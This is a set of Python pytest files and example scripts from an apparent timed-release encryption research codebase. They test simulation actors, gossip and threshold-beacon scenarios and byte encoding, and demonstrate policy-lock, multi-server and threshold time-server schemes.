        assert summary["spread"] == 3.0

    def test_empty_series(self):
        assert MetricsCollector().summary("missing") == {"count": 0}


class TestAnonymityLedger:
    def test_fresh_ledger_knows_nothing(self):
        ledger = AnonymityLedger()
        assert ledger.server_learned_nothing()
        assert ledger.view("time-server").is_empty()

    def test_observations_accumulate(self):
        ledger = AnonymityLedger()
        ledger.record_sender_seen("escrow-agent", b"alice")
        ledger.record_receiver_seen("escrow-agent", b"bob")
        ledger.record_plaintext_seen("escrow-agent")
        ledger.record_release_time_seen("escrow-agent", b"T")
        view = ledger.view("escrow-agent")
        assert not view.is_empty()
        assert view.sender_identities == {b"alice"}
        assert view.receiver_identities == {b"bob"}
        assert view.plaintexts_seen == 1
        assert view.release_times_seen == {b"T"}

    def test_parties_independent(self):
        ledger = AnonymityLedger()
        ledger.record_sender_seen("escrow-agent", b"alice")
        assert ledger.server_learned_nothing("time-server")
        assert not ledger.view("escrow-agent").is_empty()
