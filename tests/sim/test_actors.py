"""Tests for the simulation actors running real cryptography."""

import random

import pytest

from repro.sim.actors import (
    NaiveSenderNode,
    TimeServerNode,
    TREReceiverNode,
    TRESenderNode,
)
from repro.sim.events import Simulator
from repro.sim.metrics import MetricsCollector
from repro.sim.network import BroadcastChannel, FixedLatency, UnicastLink


@pytest.fixture()
def world(group):
    rng = random.Random(11)
    sim = Simulator()
    metrics = MetricsCollector()
    channel = BroadcastChannel(sim, FixedLatency(0.1), rng, metrics, "updates")
    server_node = TimeServerNode(sim, group, channel, rng)
    return sim, metrics, channel, server_node, rng


class TestTimeServerNode:
    def test_scheduled_broadcast(self, group, world):
        sim, metrics, channel, server_node, rng = world
        inbox = []
        channel.subscribe(inbox.append)
        server_node.schedule_update(5.0, b"t")
        sim.run()
        assert len(inbox) == 1
        assert inbox[0].verify(group, server_node.public_key)
        assert server_node.broadcast_arrivals[b"t"] == [5.1]


class TestReceiverSenderFlow:
    def test_end_to_end(self, group, world):
        sim, metrics, channel, server_node, rng = world
        receiver = TREReceiverNode(
            "r1", sim, group, server_node.public_key, channel, rng, metrics
        )
        sender = TRESenderNode("s1", sim, group, server_node.public_key, rng)
        link = UnicastLink(sim, FixedLatency(1.0), rng, metrics, "msgs")
        sender.send(b"hello", receiver, link, b"t", at=0.0)
        server_node.schedule_update(10.0, b"t")
        sim.run()
        assert len(receiver.opened) == 1
        label, plaintext, when = receiver.opened[0]
        assert plaintext == b"hello"
        assert when == pytest.approx(10.1)

    def test_update_before_ciphertext_means_no_open(self, group, world):
        # The receiver only decrypts pending ciphertexts at update time;
        # a ciphertext arriving later stays pending (and the scenario
        # harness treats that as a configuration error).
        sim, metrics, channel, server_node, rng = world
        receiver = TREReceiverNode(
            "r1", sim, group, server_node.public_key, channel, rng, metrics
        )
        sender = TRESenderNode("s1", sim, group, server_node.public_key, rng)
        link = UnicastLink(sim, FixedLatency(50.0), rng, metrics, "msgs")
        sender.send(b"late", receiver, link, b"t", at=0.0)
        server_node.schedule_update(1.0, b"t")
        sim.run()
        assert receiver.opened == []
        assert len(receiver.pending[b"t"]) == 1

    def test_multiple_ciphertexts_same_epoch(self, group, world):
        sim, metrics, channel, server_node, rng = world
        receiver = TREReceiverNode(
            "r1", sim, group, server_node.public_key, channel, rng, metrics
        )
        sender = TRESenderNode("s1", sim, group, server_node.public_key, rng)
        for i in range(3):
            link = UnicastLink(sim, FixedLatency(1.0), rng, metrics, "msgs")
            sender.send(f"m{i}".encode(), receiver, link, b"t", at=0.0)
        server_node.schedule_update(10.0, b"t")
        sim.run()
        assert sorted(p for _, p, _ in receiver.opened) == [b"m0", b"m1", b"m2"]


class TestNaiveSender:
    def test_open_time_includes_transit(self, group, world):
        sim, metrics, channel, server_node, rng = world
        naive = NaiveSenderNode(sim, metrics)
        link = UnicastLink(sim, FixedLatency(7.0), rng, metrics, "naive")
        naive.send_at_release(b"m", release_time=100.0, link=link)
        sim.run()
        assert metrics.series["naive_open_time"] == [107.0]
