"""Tests for the threshold-beacon simulation scenario."""

import pytest

from repro.errors import SimulationError
from repro.sim.scenarios import run_threshold_beacon


class TestThresholdBeaconScenario:
    @pytest.fixture(scope="class")
    def result(self):
        return run_threshold_beacon(
            members=5, threshold=3, offline=2, receivers=8, seed=31
        )

    def test_all_receivers_open(self, result):
        assert result.receivers_opened == 8

    def test_combined_after_release(self, result):
        assert result.combined_at is not None
        assert result.combined_at >= result.release_time

    def test_time_to_update_is_share_latency_scale(self, result):
        # Share jitter is sub-second; the update should land quickly.
        assert 0 < result.time_to_update < 2.0

    def test_only_online_members_contribute(self, result):
        assert len(result.share_arrivals) == 3  # 5 members - 2 offline

    def test_opens_track_release(self, result):
        assert all(t >= result.release_time for t in result.open_times)

    def test_too_many_failures_rejected(self):
        with pytest.raises(SimulationError):
            run_threshold_beacon(members=5, threshold=3, offline=3)

    def test_no_failures(self):
        result = run_threshold_beacon(
            members=4, threshold=4, offline=0, receivers=3, seed=8
        )
        assert result.receivers_opened == 3

    def test_deterministic(self):
        r1 = run_threshold_beacon(members=5, threshold=2, offline=1, seed=77)
        r2 = run_threshold_beacon(members=5, threshold=2, offline=1, seed=77)
        assert r1.combined_at == r2.combined_at
        assert r1.open_times == r2.open_times

    def test_threshold_timing_improves_with_lower_k(self):
        """Combining at the k-th share arrival: lower k -> earlier update."""
        fast = run_threshold_beacon(members=7, threshold=2, offline=0, seed=5)
        slow = run_threshold_beacon(members=7, threshold=7, offline=0, seed=5)
        assert fast.time_to_update <= slow.time_to_update
