"""Tests for gossip dissemination of key updates."""

import random

import pytest

from repro.core.timeserver import PassiveTimeServer, TimeBoundKeyUpdate
from repro.errors import SimulationError
from repro.sim.events import Simulator
from repro.sim.gossip import GossipNetwork
from repro.sim.metrics import MetricsCollector
from repro.sim.network import UniformLatency


def _network(nodes=40, fanout=3, seed=11, verifier=None):
    sim = Simulator()
    rng = random.Random(seed)
    metrics = MetricsCollector()
    network = GossipNetwork(
        sim,
        [f"node-{i}" for i in range(nodes)],
        UniformLatency(0.01, 0.05),
        fanout,
        rng,
        metrics,
        verifier=verifier,
    )
    return sim, metrics, network


class TestGossipDissemination:
    def test_full_coverage_with_log_fanout(self):
        # Push-only gossip needs fanout ~ ln(n) for full coverage w.h.p.
        _, _, network = _network(nodes=40, fanout=8)
        result = network.disseminate("update", 66, seeds=2)
        assert result.coverage == 1.0

    def test_low_fanout_reaches_most_nodes(self):
        # The classic epidemic threshold: fanout 3 infects the giant
        # component (~1 - e^-3 of nodes) but not necessarily everyone.
        _, _, network = _network(nodes=40, fanout=3)
        result = network.disseminate("update", 66, seeds=2)
        assert result.coverage >= 0.85

    def test_server_cost_is_seed_count(self):
        _, metrics, network = _network(nodes=100)
        network.disseminate("update", 66, seeds=3)
        assert metrics.channels["server-injection"].messages == 3

    def test_completion_scales_logarithmically(self):
        times = {}
        for nodes in (16, 256):
            _, _, network = _network(nodes=nodes, fanout=8, seed=4)
            result = network.disseminate("update", 66, seeds=1)
            assert result.coverage == 1.0
            times[nodes] = result.completion_time
        # 16x population should cost roughly +log factor, not 16x time.
        assert times[256] < 3 * times[16]

    def test_messages_bounded_by_fanout(self):
        _, _, network = _network(nodes=50, fanout=3)
        result = network.disseminate("update", 66, seeds=1)
        # Each infected node forwards at most `fanout` copies.
        assert result.messages_sent <= 50 * 3 + 1

    def test_bad_parameters_rejected(self):
        sim = Simulator()
        rng = random.Random(0)
        with pytest.raises(SimulationError):
            GossipNetwork(sim, ["a"], UniformLatency(0, 1), 2, rng)
        with pytest.raises(SimulationError):
            GossipNetwork(sim, ["a", "b"], UniformLatency(0, 1), 0, rng)
        network = GossipNetwork(sim, ["a", "b"], UniformLatency(0, 1), 1, rng)
        with pytest.raises(SimulationError):
            network.disseminate("u", 1, seeds=0)

    def test_deterministic(self):
        r1 = _network(seed=9)[2].disseminate("u", 1, seeds=1)
        r2 = _network(seed=9)[2].disseminate("u", 1, seeds=1)
        assert r1.delivery_times == r2.delivery_times


class TestVerifiedGossip:
    def test_forged_updates_dropped_at_first_hop(self, group, rng):
        """Per-hop self-authentication: a forged update injected by a
        malicious relay never propagates."""
        server = PassiveTimeServer(group, rng=rng)
        genuine = server.publish_update(b"gossip-T")
        forged = TimeBoundKeyUpdate(b"gossip-T", group.random_point(rng))

        def verifier(update):
            return update.verify(group, server.public_key)

        _, _, network = _network(nodes=20, verifier=verifier)
        result = network.disseminate(forged, 66, seeds=2)
        assert result.coverage == 0.0
        assert result.forged_copies_dropped == 2
        assert result.messages_sent == 2  # Only the injections.

    def test_genuine_update_floods_fully(self, group, rng):
        server = PassiveTimeServer(group, rng=rng)
        genuine = server.publish_update(b"gossip-T2")

        def verifier(update):
            return update.verify(group, server.public_key)

        _, _, network = _network(nodes=15, fanout=7, verifier=verifier)
        result = network.disseminate(genuine, 66, seeds=1)
        assert result.coverage == 1.0
