"""Tests for the discrete-event engine."""

import pytest

from repro.errors import SimulationError
from repro.sim.events import Simulator


class TestScheduling:
    def test_runs_in_time_order(self):
        sim = Simulator()
        order = []
        sim.schedule_at(3.0, lambda: order.append("c"))
        sim.schedule_at(1.0, lambda: order.append("a"))
        sim.schedule_at(2.0, lambda: order.append("b"))
        sim.run()
        assert order == ["a", "b", "c"]

    def test_fifo_tie_break(self):
        sim = Simulator()
        order = []
        for name in "abc":
            sim.schedule_at(1.0, lambda n=name: order.append(n))
        sim.run()
        assert order == ["a", "b", "c"]

    def test_relative_scheduling(self):
        sim = Simulator()
        times = []
        sim.schedule_in(5.0, lambda: times.append(sim.now))
        sim.run()
        assert times == [5.0]

    def test_nested_scheduling(self):
        sim = Simulator()
        times = []

        def first():
            times.append(sim.now)
            sim.schedule_in(2.0, lambda: times.append(sim.now))

        sim.schedule_at(1.0, first)
        sim.run()
        assert times == [1.0, 3.0]

    def test_past_scheduling_rejected(self):
        sim = Simulator()
        sim.schedule_at(5.0, lambda: sim.schedule_at(1.0, lambda: None))
        with pytest.raises(SimulationError):
            sim.run()

    def test_negative_delay_rejected(self):
        sim = Simulator()
        with pytest.raises(SimulationError):
            sim.schedule_in(-1.0, lambda: None)


class TestRunUntil:
    def test_stops_at_boundary(self):
        sim = Simulator()
        fired = []
        sim.schedule_at(1.0, lambda: fired.append(1))
        sim.schedule_at(10.0, lambda: fired.append(10))
        sim.run(until=5.0)
        assert fired == [1]
        assert sim.now == 5.0
        assert sim.pending() == 1
        sim.run()
        assert fired == [1, 10]

    def test_empty_run(self):
        sim = Simulator()
        assert sim.run() == 0.0
        assert sim.events_processed == 0

    def test_event_counter(self):
        sim = Simulator()
        for i in range(5):
            sim.schedule_at(float(i), lambda: None)
        sim.run()
        assert sim.events_processed == 5
