"""Tests for latency models, unicast links and the broadcast channel."""

import random

import pytest

from repro.errors import SimulationError
from repro.sim.events import Simulator
from repro.sim.metrics import MetricsCollector
from repro.sim.network import (
    BroadcastChannel,
    FixedLatency,
    NormalJitterLatency,
    UnicastLink,
    UniformLatency,
)


class TestLatencyModels:
    def test_fixed(self):
        model = FixedLatency(2.5)
        assert model.sample(random.Random(0)) == 2.5

    def test_fixed_negative_rejected(self):
        with pytest.raises(SimulationError):
            FixedLatency(-1)

    def test_uniform_range(self):
        model = UniformLatency(1.0, 3.0)
        rng = random.Random(1)
        for _ in range(100):
            assert 1.0 <= model.sample(rng) <= 3.0

    def test_uniform_bad_bounds(self):
        with pytest.raises(SimulationError):
            UniformLatency(3.0, 1.0)
        with pytest.raises(SimulationError):
            UniformLatency(-1.0, 1.0)

    def test_normal_floor(self):
        model = NormalJitterLatency(0.001, 10.0, floor=0.5)
        rng = random.Random(2)
        assert all(model.sample(rng) >= 0.5 for _ in range(100))

    def test_normal_bad_params(self):
        with pytest.raises(SimulationError):
            NormalJitterLatency(-1, 0)


class TestUnicastLink:
    def test_delivery(self):
        sim = Simulator()
        metrics = MetricsCollector()
        link = UnicastLink(sim, FixedLatency(2.0), random.Random(0), metrics, "l")
        received = []
        arrival = link.send(b"payload", 7, received.append)
        assert arrival == 2.0
        sim.run()
        assert received == [b"payload"]
        assert metrics.channels["l"].messages == 1
        assert metrics.channels["l"].bytes == 7

    def test_metrics_optional(self):
        sim = Simulator()
        link = UnicastLink(sim, FixedLatency(1.0), random.Random(0))
        link.send(b"x", 1, lambda p: None)
        sim.run()


class TestBroadcastChannel:
    def test_fanout(self):
        sim = Simulator()
        metrics = MetricsCollector()
        channel = BroadcastChannel(
            sim, FixedLatency(0.5), random.Random(0), metrics, "b"
        )
        boxes = [[], [], []]
        for box in boxes:
            channel.subscribe(box.append)
        arrivals = channel.publish("update", 66)
        sim.run()
        assert all(box == ["update"] for box in boxes)
        assert arrivals == [0.5, 0.5, 0.5]
        # One message charged regardless of subscriber count.
        assert metrics.channels["b"].messages == 1
        assert metrics.channels["b"].bytes == 66

    def test_independent_jitter(self):
        sim = Simulator()
        channel = BroadcastChannel(
            sim, UniformLatency(0.0, 1.0), random.Random(3), None
        )
        for _ in range(5):
            channel.subscribe(lambda p: None)
        arrivals = channel.publish("u", 1)
        assert len(set(arrivals)) > 1

    def test_subscriber_count(self):
        sim = Simulator()
        channel = BroadcastChannel(sim, FixedLatency(0), random.Random(0), None)
        assert channel.subscriber_count == 0
        channel.subscribe(lambda p: None)
        assert channel.subscriber_count == 1

    def test_empty_broadcast(self):
        sim = Simulator()
        channel = BroadcastChannel(sim, FixedLatency(0), random.Random(0), None)
        assert channel.publish("u", 1) == []
