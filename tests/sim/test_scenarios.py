"""End-to-end tests of the paper's two motivating scenarios."""

import pytest

from repro.errors import SimulationError
from repro.sim.network import NormalJitterLatency, UniformLatency
from repro.sim.scenarios import run_programming_contest, run_sealed_bid_auction


class TestProgrammingContest:
    @pytest.fixture(scope="class")
    def result(self):
        return run_programming_contest(teams=12, seed=42)

    def test_every_team_opens(self, result):
        assert len(result.tre_open_times) == 12

    def test_nobody_opens_before_start(self, result):
        assert min(result.tre_open_times) >= result.contest_start

    def test_ciphertexts_arrive_before_start(self, result):
        assert max(result.ciphertext_arrivals) <= result.contest_start

    def test_tre_fairer_than_naive(self, result):
        assert result.tre_spread < result.naive_spread / 10

    def test_tre_lag_is_update_jitter_scale(self, result):
        # Updates are tiny: worst lag well under a second with the
        # default jitter model, versus minutes for the naive arm.
        assert result.tre_worst_lag < 1.0
        assert result.naive_worst_lag > 5.0

    def test_single_broadcast(self, result):
        assert result.server_broadcasts == 1

    def test_server_anonymity(self, result):
        assert result.ledger.server_learned_nothing()

    def test_custom_latency_models(self):
        result = run_programming_contest(
            teams=5,
            seed=1,
            message_latency=UniformLatency(1.0, 50.0),
            update_latency=NormalJitterLatency(0.01, 0.001),
        )
        assert result.tre_spread < 0.1

    def test_no_teams_rejected(self):
        with pytest.raises(SimulationError):
            run_programming_contest(teams=0)

    def test_deterministic_given_seed(self):
        r1 = run_programming_contest(teams=4, seed=9)
        r2 = run_programming_contest(teams=4, seed=9)
        assert r1.tre_open_times == r2.tre_open_times
        assert r1.naive_open_times == r2.naive_open_times


class TestSealedBidAuction:
    @pytest.fixture(scope="class")
    def result(self):
        return run_sealed_bid_auction(bidders=6, seed=13)

    def test_winner_has_highest_bid(self, result):
        assert result.winning_bid == max(result.bids.values())

    def test_early_openings_all_fail(self, result):
        assert result.early_opening_attempts > 0
        assert result.early_openings_succeeded == 0

    def test_early_refusals_accounted(self, result):
        # Every pre-close attempt must be an explicit refusal — a
        # swallowed unrelated error would leave attempts unaccounted.
        assert (
            result.early_openings_refused == result.early_opening_attempts
        )

    def test_bids_open_after_close(self, result):
        assert result.opened_at >= result.close_time

    def test_single_broadcast(self, result):
        assert result.server_broadcasts == 1

    def test_server_anonymity(self, result):
        assert result.ledger.server_learned_nothing()

    def test_minimum_bidders(self):
        with pytest.raises(SimulationError):
            run_sealed_bid_auction(bidders=1)
