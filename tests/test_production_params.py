"""One end-to-end smoke test at production (ss512) parameters.

Everything else runs on toy64 for speed; this single test exercises the
full §5.1 flow at the 2005-era production size so a parameter-dependent
bug (e.g. in cofactor handling or serialization widths) cannot hide
behind the toy set.
"""

from repro.core.keys import UserKeyPair, UserPublicKey
from repro.core.timeserver import PassiveTimeServer, TimeBoundKeyUpdate
from repro.core.tre import TimedReleaseScheme, TRECiphertext
from repro.crypto.rng import seeded_rng
from repro.pairing.api import PairingGroup


def test_ss512_full_flow_over_wire():
    rng = seeded_rng("ss512-smoke")
    group = PairingGroup("ss512", family="A")
    scheme = TimedReleaseScheme(group)
    server = PassiveTimeServer(group, rng=rng)
    receiver = UserKeyPair.generate(group, server.public_key, rng)

    # Wire round trips at full width.
    receiver_pub = UserPublicKey.from_bytes(
        group, receiver.public.to_bytes(group)
    )
    assert receiver_pub.verify_well_formed(group, server.public_key)

    message = b"production-size smoke test"
    label = b"2031-06-01T00:00Z"
    ct_bytes = scheme.encrypt(
        message, receiver_pub, server.public_key, label, rng
    ).to_bytes(group)
    update_bytes = server.publish_update(label).to_bytes(group)

    ciphertext = TRECiphertext.from_bytes(group, ct_bytes)
    update = TimeBoundKeyUpdate.from_bytes(group, update_bytes)
    assert update.verify(group, server.public_key)
    assert scheme.decrypt(ciphertext, receiver, update, server.public_key) == message

    # Compressed update transport at full width.
    compressed = group.point_to_bytes_compressed(update.point)
    assert len(compressed) == 65  # 1 + 512/8
    rebuilt = TimeBoundKeyUpdate(
        label, group.point_from_bytes_compressed(compressed)
    )
    assert scheme.decrypt(ciphertext, receiver, rebuilt) == message
