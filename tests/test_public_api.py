"""Public API surface: exports exist, are documented, and stay stable.

A downstream user imports from these locations; this test pins the
surface so a refactor that silently drops or undocuments a public name
fails here rather than in their code.
"""

import importlib

import pytest

PUBLIC_SURFACE = {
    "repro": [
        "PairingGroup", "GTElement", "ParameterSet", "PARAMETER_SETS",
        "get_parameter_set", "TimedReleaseScheme",
        "IdentityTimedReleaseScheme", "PassiveTimeServer",
        "TimeBoundKeyUpdate",
    ],
    "repro.core": [
        "ServerKeyPair", "ServerPublicKey", "UserKeyPair", "UserPublicKey",
        "PassiveTimeServer", "TimeBoundKeyUpdate", "epoch_label",
        "TimedReleaseScheme", "TRECiphertext", "IdentityTimedReleaseScheme",
        "IDTRECiphertext", "BLSSignatureScheme",
    ],
    "repro.core.fujisaki_okamoto": ["FOTimedReleaseScheme", "FOTRECiphertext"],
    "repro.core.react": ["ReactTimedReleaseScheme", "ReactTRECiphertext"],
    "repro.core.hybrid_tre": ["HybridTimedReleaseScheme", "HybridTRECiphertext"],
    "repro.core.multiserver": [
        "MultiServerTimedReleaseScheme", "MultiServerUserKeyPair",
        "MultiServerCiphertext",
    ],
    "repro.core.policylock": [
        "PolicyLockScheme", "ThresholdPolicyScheme", "ConjunctionCiphertext",
        "DisjunctionCiphertext", "ThresholdPolicyCiphertext",
    ],
    "repro.core.key_insulation": [
        "SafeDevice", "InsecureDevice", "EpochKey", "decrypt_with_epoch_key",
    ],
    "repro.core.certification": [
        "CertificateAuthority", "Certificate", "verify_rekeyed_public_key",
    ],
    "repro.core.threshold": [
        "ThresholdTimeServer", "ThresholdServerMember", "UpdateShare",
        "lagrange_coefficient_at_zero",
    ],
    "repro.core.resilient": [
        "ResilientTimeServer", "ResilientTRE", "ResilientUpdate", "NodeKey",
        "HierarchicalTimeTree", "epoch_path", "left_cover",
    ],
    "repro.core.tlock": [
        "DrandStyleBeacon", "TimelockEncryption", "Type3TimedRelease",
        "RoundSignature", "round_label",
    ],
    "repro.core.timeserver": ["batch_verify_updates", "verify_archive"],
    "repro.baselines": [
        "HashedElGamal", "ExponentialElGamal", "BonehFranklinIBE",
        "HybridPkeIbeTimedRelease", "TimeLockPuzzle", "TimedCommitmentScheme",
        "TimedSignatureScheme", "EscrowAgent", "RivestKeyReleaseServer",
        "RivestPublicKeyServer", "MontTimeVault",
    ],
    "repro.baselines.cot": [
        "COTTimeServer", "COTReceiver", "seal_message", "run_cot_session",
    ],
    "repro.pairing.bn254": ["BN254", "bn254"],
    "repro.sim": [
        "Simulator", "FixedLatency", "UniformLatency", "NormalJitterLatency",
        "UnicastLink", "BroadcastChannel", "MetricsCollector",
    ],
    "repro.sim.scenarios": [
        "run_programming_contest", "run_sealed_bid_auction",
        "run_threshold_beacon",
    ],
    "repro.sim.gossip": ["GossipNetwork", "GossipResult"],
    "repro.analysis": ["format_table"],
    "repro.analysis.costmodel": [
        "OpBudget", "SchemeCost", "TRE_COST", "IDTRE_COST", "HYBRID_COST",
        "multiserver_cost", "resilient_cost", "cost_table",
    ],
    "repro.service": [
        "TimeServerNode", "LocalNodeTransport", "ResilientTimeClient",
        "Deadline", "ExponentialBackoff", "CircuitBreaker",
        "FaultPlan", "FaultyTransport", "FaultyChannel", "NodeChaos",
        "VirtualTimeLoop", "run_virtual",
    ],
    "repro.cli": ["main", "build_parser"],
    "repro.errors": [
        "ReproError", "ParameterError", "KeyValidationError",
        "DecryptionError", "UpdateVerificationError",
        "UpdateNotAvailableError", "PolicyError", "ProtocolError",
        "SimulationError", "EncodingError", "ServiceError",
        "TransientServiceError", "PermanentServiceError",
        "ServiceTimeoutError", "ServiceUnavailableError",
        "CircuitOpenError",
    ],
}


@pytest.mark.parametrize("module_name", sorted(PUBLIC_SURFACE))
def test_module_exports(module_name):
    module = importlib.import_module(module_name)
    for name in PUBLIC_SURFACE[module_name]:
        assert hasattr(module, name), f"{module_name}.{name} missing"


@pytest.mark.parametrize("module_name", sorted(PUBLIC_SURFACE))
def test_public_items_documented(module_name):
    module = importlib.import_module(module_name)
    assert module.__doc__, f"{module_name} has no module docstring"
    for name in PUBLIC_SURFACE[module_name]:
        item = getattr(module, name)
        if callable(item) and not isinstance(item, (int, dict)):
            assert getattr(item, "__doc__", None), (
                f"{module_name}.{name} is undocumented"
            )


def test_version_string():
    import repro

    parts = repro.__version__.split(".")
    assert len(parts) == 3 and all(p.isdigit() for p in parts)
