"""Tests for the shared byte-encoding helpers."""

import pytest
from hypothesis import given, strategies as st

from repro.encoding import (
    byte_length,
    int_from_bytes,
    int_to_bytes,
    pack_chunks,
    unpack_chunks,
    xor_bytes,
)
from repro.errors import EncodingError


class TestIntBytes:
    def test_roundtrip(self):
        assert int_from_bytes(int_to_bytes(12345, 4)) == 12345

    def test_exact_width(self):
        assert int_to_bytes(1, 8) == b"\x00" * 7 + b"\x01"

    def test_negative_raises(self):
        with pytest.raises(EncodingError):
            int_to_bytes(-1, 4)

    def test_overflow_raises(self):
        with pytest.raises(EncodingError):
            int_to_bytes(256, 1)

    def test_byte_length(self):
        assert byte_length(0) == 1
        assert byte_length(255) == 1
        assert byte_length(256) == 2

    @given(st.integers(0, 2**128 - 1))
    def test_roundtrip_property(self, n):
        assert int_from_bytes(int_to_bytes(n, 16)) == n


class TestChunkFraming:
    def test_roundtrip(self):
        chunks = [b"", b"a", b"hello", b"\x00" * 100]
        assert unpack_chunks(pack_chunks(*chunks)) == chunks

    def test_empty(self):
        assert unpack_chunks(pack_chunks()) == []

    def test_unambiguous(self):
        assert pack_chunks(b"ab", b"c") != pack_chunks(b"a", b"bc")

    def test_truncated_count(self):
        with pytest.raises(EncodingError):
            unpack_chunks(b"\x00")

    def test_truncated_chunk(self):
        data = pack_chunks(b"hello")[:-2]
        with pytest.raises(EncodingError):
            unpack_chunks(data)

    def test_trailing_garbage(self):
        with pytest.raises(EncodingError):
            unpack_chunks(pack_chunks(b"x") + b"junk")

    def test_overrun_length(self):
        bad = (1).to_bytes(4, "big") + (100).to_bytes(4, "big") + b"short"
        with pytest.raises(EncodingError):
            unpack_chunks(bad)

    @given(st.lists(st.binary(max_size=50), max_size=8))
    def test_roundtrip_property(self, chunks):
        assert unpack_chunks(pack_chunks(*chunks)) == chunks


class TestXor:
    def test_basic(self):
        assert xor_bytes(b"\x0f\xf0", b"\xff\xff") == b"\xf0\x0f"

    def test_mismatch_raises(self):
        with pytest.raises(EncodingError):
            xor_bytes(b"a", b"ab")
