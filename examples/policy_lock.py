#!/usr/bin/env python3
"""Policy-lock encryption (§5.3.2): conditions instead of clock times.

A company encrypts its disaster-recovery master credentials so the
on-call engineer can open them only once the *witness server* has
attested both "incident-declared" AND "cto-approved" — and a separate
document that opens under ANY of several conditions.

Run:  python examples/policy_lock.py
"""

from repro import PairingGroup
from repro.core import PassiveTimeServer
from repro.core.keys import UserKeyPair
from repro.core.policylock import PolicyLockScheme
from repro.crypto.rng import seeded_rng
from repro.errors import PolicyError


def main() -> None:
    group = PairingGroup("toy64")
    rng = seeded_rng("policy-lock")
    # The "time server" is now a witness signing arbitrary statements.
    witness = PassiveTimeServer(group, rng=rng)
    engineer = UserKeyPair.generate(group, witness.public_key, rng)
    scheme = PolicyLockScheme(group)

    # --- Conjunction: ALL conditions required --------------------------
    conditions = [b"incident-declared", b"cto-approved"]
    secret = b"root credentials: hunter2"
    locked = scheme.encrypt_all(
        secret, engineer.public, witness.public_key, conditions, rng
    )
    print(f"locked credentials under ALL of {[c.decode() for c in conditions]}")

    first = witness.publish_update(b"incident-declared")
    try:
        scheme.decrypt_all(locked, engineer, [first], witness.public_key)
    except PolicyError as exc:
        print(f"one attestation is not enough: {exc}")

    second = witness.publish_update(b"cto-approved")
    opened = scheme.decrypt_all(
        locked, engineer, [first, second], witness.public_key
    )
    print(f"both attested -> opened: {opened.decode()}")
    assert opened == secret

    # --- Disjunction: ANY condition suffices ---------------------------
    any_conditions = [b"fire-drill", b"real-emergency", b"audit-request"]
    runbook = b"evacuation & recovery runbook v7"
    locked_any = scheme.encrypt_any(
        runbook, engineer.public, witness.public_key, any_conditions, rng
    )
    print(f"\nlocked runbook under ANY of {[c.decode() for c in any_conditions]}")
    attestation = witness.publish_update(b"audit-request")
    opened_any = scheme.decrypt_any(
        locked_any, engineer, attestation, witness.public_key
    )
    print(f"single attestation 'audit-request' -> opened: {opened_any.decode()}")
    assert opened_any == runbook

    print(
        "\nwitness stayed passive throughout: "
        f"{witness.updates_published} broadcast attestations, no user contact"
    )


if __name__ == "__main__":
    main()
