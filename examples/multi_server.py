#!/usr/bin/env python3
"""Multi-server TRE (§5.3.5): no single server can unlock early.

A journalist schedules a document for release.  Worried that any one
time server might be coerced into signing a future timestamp early, she
splits trust across three independent servers: decryption needs all
three updates, so early release requires corrupting all of them.

Run:  python examples/multi_server.py [servers]
"""

import sys

from repro import PairingGroup
from repro.core import PassiveTimeServer
from repro.core.multiserver import (
    MultiServerTimedReleaseScheme,
    MultiServerUserKeyPair,
)
from repro.crypto.rng import seeded_rng
from repro.errors import UpdateVerificationError


def main() -> None:
    n_servers = int(sys.argv[1]) if len(sys.argv) > 1 else 3
    group = PairingGroup("toy64")
    rng = seeded_rng("multi-server")

    servers = [PassiveTimeServer(group, rng=rng) for _ in range(n_servers)]
    scheme = MultiServerTimedReleaseScheme(
        group, [s.public_key for s in servers]
    )
    editor = MultiServerUserKeyPair.generate(
        group, [s.public_key for s in servers], rng
    )
    print(f"{n_servers} independent time servers; editor key has "
          f"{len(editor.components)} components")

    release = b"2030-06-01T09:00Z"
    document = b"EMBARGOED: investigation findings"
    ciphertext = scheme.encrypt(document, editor.public, release, rng)
    print(f"ciphertext carries {len(ciphertext.u_points)} header points "
          f"({ciphertext.size_bytes(group)} bytes total)")

    # A single corrupted server signs early — not enough.
    corrupt_update = servers[0].issue_update(release)
    honest_other = servers[1].issue_update(b"some-other-time")
    partial = [corrupt_update] + [
        s.issue_update(b"not-the-release-time") for s in servers[1:]
    ]
    try:
        scheme.decrypt(ciphertext, editor.private, partial)
    except UpdateVerificationError as exc:
        print(f"one colluding server is useless: {exc}")

    # At the release time every server broadcasts, and the document opens.
    updates = [s.publish_update(release) for s in servers]
    plaintext = scheme.decrypt(ciphertext, editor.private, updates)
    print(f"all {n_servers} updates collected -> opened: {plaintext.decode()}")
    assert plaintext == document
    del honest_other


if __name__ == "__main__":
    main()
