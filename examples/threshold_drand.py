#!/usr/bin/env python3
"""Threshold time server: a drand-style k-of-N beacon for TRE.

§5.3.5's multi-server scheme requires ALL N servers — one crash halts
every release.  Sharing the master secret k-of-N instead keeps all the
paper's properties (passive members, one combined update for all users)
while tolerating N-k failures and requiring k colluders to cheat.  This
is exactly the architecture later adopted by drand/tlock networks.

Run:  python examples/threshold_drand.py [members] [threshold]
"""

import sys

from repro import PairingGroup
from repro.core import TimedReleaseScheme
from repro.core.threshold import ThresholdTimeServer
from repro.crypto.rng import seeded_rng
from repro.errors import UpdateVerificationError


def main() -> None:
    members_n = int(sys.argv[1]) if len(sys.argv) > 1 else 5
    threshold_k = int(sys.argv[2]) if len(sys.argv) > 2 else 3
    group = PairingGroup("toy64")
    rng = seeded_rng("threshold")

    coordinator, members = ThresholdTimeServer.setup(
        group, members=members_n, threshold=threshold_k, rng=rng
    )
    print(f"{threshold_k}-of-{members_n} threshold time server set up; "
          "master secret exists nowhere")

    scheme = TimedReleaseScheme(group)
    receiver = scheme.generate_user_keypair(coordinator.public_key, rng)
    release = b"2033-03-03T03:03Z"
    ciphertext = scheme.encrypt(
        b"release the report", receiver.public, coordinator.public_key,
        release, rng,
    )
    print(f"message sealed until {release.decode()}")

    # Two members are offline at the release instant.
    offline = members[:members_n - threshold_k]
    online = members[members_n - threshold_k:]
    print(f"at release: {len(offline)} members offline, {len(online)} publish shares")
    shares = [member.issue_update_share(release) for member in online]
    for share in shares:
        assert coordinator.verify_share(share), "share failed verification"

    update = coordinator.combine(shares)
    assert update.verify(group, coordinator.public_key)
    print("shares Lagrange-combined into the ordinary update s*H1(T); "
          "it self-authenticates like any single-server update")

    plaintext = scheme.decrypt(ciphertext, receiver, update, coordinator.public_key)
    print(f"decrypted: {plaintext.decode()}")
    assert plaintext == b"release the report"

    # Below-threshold collusion gets nothing.
    try:
        coordinator.combine(shares[: threshold_k - 1])
    except UpdateVerificationError as exc:
